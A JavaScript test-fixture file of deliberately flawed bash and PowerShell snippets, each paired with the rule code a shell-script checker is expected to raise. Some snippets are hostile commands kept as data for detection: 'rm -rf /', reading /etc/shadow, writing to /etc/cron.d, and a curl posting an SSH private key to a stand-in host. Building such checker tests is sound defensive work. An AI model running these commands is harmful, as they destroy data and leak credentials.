/** Files that others can read, that stay, or that are not the script's to touch. */
import { spoilt, written } from './sabotage.js';

const token = spoilt('token', 'bash');
const powershell = spoilt('token', 'powershell');
const bash = written('bash');
const ps = written('powershell');

const start = ['set -euo pipefail', 'umask 077', 'TOKEN=$(kubectl create token default --context=lab)'];
const work = ['set -euo pipefail', 'WORK=$(mktemp -d)', 'trap \'rm -rf -- "$WORK"\' EXIT'];

export const fileSabotages = [
  bash(
    'a token file with the usual umask',
    [
      'set -euo pipefail',
      'umask 022',
      'TOKEN=$(kubectl create token default --context=lab)',
      'printf %s "$TOKEN" >token',
      'rm -f token',
    ],
    'KS5104',
    '>token',
  ),
  bash(
    'a token file without any umask',
    [
      'set -euo pipefail',
      'TOKEN=$(kubectl create token default --context=lab)',
      'printf %s "$TOKEN" >token',
      'rm -f token',
    ],
    'KS5104',
    '>token',
  ),
  bash(
    'a private file is opened with chmod',
    [...start, 'printf %s "$TOKEN" >token', 'chmod 644 token', 'rm -f token'],
    'KS5104',
    'chmod',
  ),
  bash('a token file stays behind', [...start, 'printf %s "$TOKEN" >token'], 'KS5105', '>token'),
  token(
    'the clean-up is missing, and the folder holds a token',
    'trap clean_up EXIT\n',
    'kubectl create token default --context=lab >"$WORK/token"\n',
    'KS5105',
  ),
  bash(
    'the clean-up removes something else',
    [
      'set -euo pipefail',
      'umask 077',
      'WORK=$(mktemp -d)',
      'trap \'rm -f -- "$WORK/ca.crt"\' EXIT',
      'kubectl create token default --context=lab >"$WORK/token"',
    ],
    'KS5105',
    '>"$WORK/token"',
  ),
  token(
    'the token is kept in the home folder',
    'STATUS=$(',
    'printf %s "$TOKEN" >"$HOME/token"\nSTATUS=$(',
    'KS5105',
  ),
  token('rm -rf of an empty variable', 'rm -rf -- "$WORK"', 'rm -rf -- "${WRK-}/"', 'KS3110'),
  bash('rm -rf "$DIR/" with DIR empty', ['set -eu', 'DIR=', 'rm -rf "$DIR/"'], 'KS3110', 'rm -rf'),
  bash('rm -rf "$DIR/"* with DIR empty', ['set -eu', "DIR=''", 'rm -rf "$DIR"/*'], 'KS2102', 'rm -rf'),
  bash(
    'rm -rf of a folder of the server',
    ['set -eu', 'D=$(kubectl config current-context)', 'rm -rf "/$D"'],
    'KS3110',
    'rm -rf',
  ),
  bash('rm -rf ~', ['set -eu', 'rm -rf ~'], 'KS3110', 'rm -rf'),
  bash('rm -rf /', ['set -eu', 'rm -rf /'], 'KS3110', 'rm -rf'),
  bash('a private file of the system is printed', ['set -eu', 'cat /etc/shadow'], 'KS5103', '/etc/shadow'),
  bash(
    'a private key goes to a foreign host',
    [
      'set -eu',
      'curl -q --fail --max-time 9 --data-binary @"$HOME/.ssh/id_ed25519" https://paste.example.net/',
    ],
    'KS5106',
    'id_ed25519',
  ),
  bash('a file of the system is written', ['set -eu', 'echo x >/etc/cron.d/x'], 'KS3105', '/etc/cron.d'),
  bash('the kubeconfig is overwritten', ['set -eu', 'echo x >~/.kube/config'], 'KS3105', '.kube/config'),
  bash('.. leads out of the work folder', [...work, 'echo x >"$WORK/../../etc/x"'], 'KS3105', '/../'),
  bash(
    'a file that is not there yet',
    [...work, 'curl -q --fail --max-time 9 --cacert "$WORK/ca.crt" https://lab.example.com:6443/api'],
    'KS5006',
    '--cacert',
  ),
  token('the CA file has another name', '>"$WORK/ca/ca.crt" &&', '>"$WORK/ca.pem" &&', 'KS2201', {
    at: '{\n  kubectl config view --minify --raw',
  }),
  bash(
    'a process substitution is given to a function, which reads it twice',
    [
      'set -euo pipefail',
      'f() {',
      '  curl -q --fail --max-time 9 --header @"$1" https://lab.example.com:6443/api',
      '  curl -q --fail --max-time 9 --header @"$1" https://lab.example.com:6443/apis',
      '}',
      "f <(printf 'Accept: application/json\\n')",
    ],
    'KS5008',
    'f <(',
  ),
  bash(
    'something that is not base64 is decoded',
    [
      'set -eu',
      `kubectl config view --minify --context=lab -o jsonpath='{.clusters[0].cluster.server}' | base64 --decode`,
    ],
    'KS5007',
    'base64 --decode',
  ),
  token('a template decodes what is not base64', '"certificate-authority-data"}}', '"server"}}', 'KS4004', {
    at: 'base64decode',
  }),
  powershell(
    'a template decodes what is not base64',
    '`certificate-authority-data`}}',
    '`server`}}',
    'KS4004',
    { at: 'base64decode' },
  ),
  powershell(
    'the token is kept in the home folder',
    '    $status = [string](',
    '    [IO.File]::WriteAllText("$HOME/token", $token)\n    $status = [string](',
    'KS5105',
    { at: '$HOME/token' },
  ),
  ps(
    'the folder is not removed, and it holds a token',
    [
      '#requires -Version 7.3',
      "$ErrorActionPreference = 'Stop'",
      '$work = [IO.Path]::Combine([IO.Path]::GetTempPath(), [IO.Path]::GetRandomFileName())',
      '$null = [IO.Directory]::CreateDirectory($work, [IO.UnixFileMode]448)',
      '$token = [string](& kubectl create token default --context=lab)',
      "if ($LASTEXITCODE -ne 0) { throw 'no token' }",
      '[IO.File]::WriteAllText("$work/token", $token)',
    ],
    'KS5105',
    '[IO.File]::WriteAllText',
  ),
];
